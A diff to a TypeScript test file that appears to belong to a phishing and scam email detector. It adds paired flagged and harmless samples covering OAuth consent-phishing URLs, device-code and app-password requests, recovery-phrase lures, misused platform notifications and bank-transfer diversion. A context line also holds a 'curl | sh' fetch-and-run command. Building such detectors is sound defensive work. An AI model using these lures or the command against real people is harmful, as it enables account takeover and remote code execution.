@@ -66,6 +66,19 @@ function withHeaders(...fields: Record<string, string>[]): Partial<Email> & Cont
   return { authservId: TRUSTED, headers: entries.map(([name, value]) => ({ name, value })) };
 }
 
+/** From a service's address, which the receiving server verified. */
+function sentBy(name: string, address: string, replyTo?: string): Partial<Email> & Context {
+  return {
+    ...from(name, address),
+    ...results('dmarc=pass'),
+    ...(replyTo !== undefined && { replyTo: [{ name: '', address: replyTo }] }),
+  };
+}
+
+function consent(redirect: string, scope: string): string {
+  return `https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=1&response_type=code&redirect_uri=${encodeURIComponent(redirect)}&scope=${scope}`;
+}
+
 function twoFroms(first: string, second: string): Partial<Email> {
   return { headers: [first, second].map((value) => ({ name: 'From', value })) };
 }
@@ -93,6 +106,66 @@ const SAMPLES: Readonly<Record<string, readonly [noticed: Sample, silent: Sample
     'The log ends after: curl -fsSL https://alder.example/fix.sh | sh',
   ],
   'remote-access-program': ['Please install AnyDesk and call us.', 'Please install the update and call us.'],
+  'consent-to-stranger': [
+    `Open the document: ${consent('https://viewer.example/cb', 'Mail.ReadWrite+offline_access')}`,
+    `Sign in: ${consent('https://viewer.example/cb', 'openid+email')}`,
+  ],
+  'consent-request': [
+    `Connect your mailbox: ${consent('https://viewer.example/cb', 'Mail.ReadWrite')}`,
+    `Connect your calendar: ${consent('https://viewer.example/cb', 'Calendars.Read')}`,
+  ],
+  'consent-code-to-copy': [
+    `Open ${consent('http://localhost:8400', '.default')} and copy the address of the empty page to us.`,
+    `Open ${consent('http://localhost:8400', '.default')} while the program runs.`,
+  ],
+  'device-page': ['Confirm at https://microsoft.com/devicelogin', 'Confirm at https://microsoft.com/en-gb'],
+  'app-password-request': [
+    'Please create an app password and send it to us today.',
+    'Please create an app password and type it into the scanner. Never send it to us.',
+  ],
+  'recovery-words-request': [
+    'Enter your recovery phrase to continue: https://wallet.example/a',
+    'Keep your recovery phrase on paper and never enter it on a site: https://wallet.example/a',
+  ],
+  'written-by-platform-user': [
+    { ...sentBy('Ada Lovelace via Docusign', 'dse@docusign.net', 'ada@alder.example'), body: 'Please sign' },
+    { ...sentBy('Docusign', 'news@alder.example'), body: 'Please sign' },
+  ],
+  'platform-plain-use': [
+    { ...sentBy('Ada Lovelace (via Dropbox)', 'no-reply@dropbox.com'), body: 'The plans: https://www.dropbox.com/a' },
+    {
+      ...sentBy('Ada Lovelace (via Dropbox)', 'no-reply@dropbox.com'),
+      body: 'Sign in to PayPal to see the plans: https://www.dropbox.com/a',
+    },
+  ],
+  'platform-author-claims-company': [
+    { ...sentBy('Coinbase Support (via Google Docs)', 'comments-noreply@docs.google.com'), body: 'See the file' },
+    { ...sentBy('Tom Alder (via Google Docs)', 'comments-noreply@docs.google.com'), body: 'See the file' },
+  ],
+  'platform-callback': [
+    {
+      ...sentBy('Alder Billing', 'quickbooks@notification.intuit.com'),
+      body: 'You were charged $399.00. If this was not you, call +1 (202) 555-0143 to cancel.',
+    },
+    {
+      ...sentBy('Alder Trees', 'quickbooks@notification.intuit.com'),
+      body: 'Your invoice for $399.00 is due on Friday. Questions? Call +1 (202) 555-0143.',
+    },
+  ],
+  'platform-details-elsewhere': [
+    {
+      ...sentBy('Hotel Elm', '1-a@property.booking.com'),
+      body: 'Confirm your card within 12 hours: https://guest.example/p',
+    },
+    { ...sentBy('Hotel Elm', '1-a@property.booking.com'), body: 'How to find us: https://hotel-elm.example/map' },
+  ],
+  'platform-payment-elsewhere': [
+    {
+      ...sentBy('Hotel Elm', '1-a@property.booking.com'),
+      body: 'Pay the deposit by bank transfer to DE89 3704 0044 0532 0130 00',
+    },
+    { ...sentBy('Hotel Elm', '1-a@property.booking.com'), body: 'You pay at the hotel when you leave' },
+  ],
   'money-mule': ['You receive payments and keep 5 % of each.', 'You receive our newsletter on Monday.'],
   'job-offer': ['Earn $200 a day, no experience needed.', 'The garden is open all day.'],
   'romantic-approach': ['I am lonely and look for true love.', 'The bridge is open again.'],
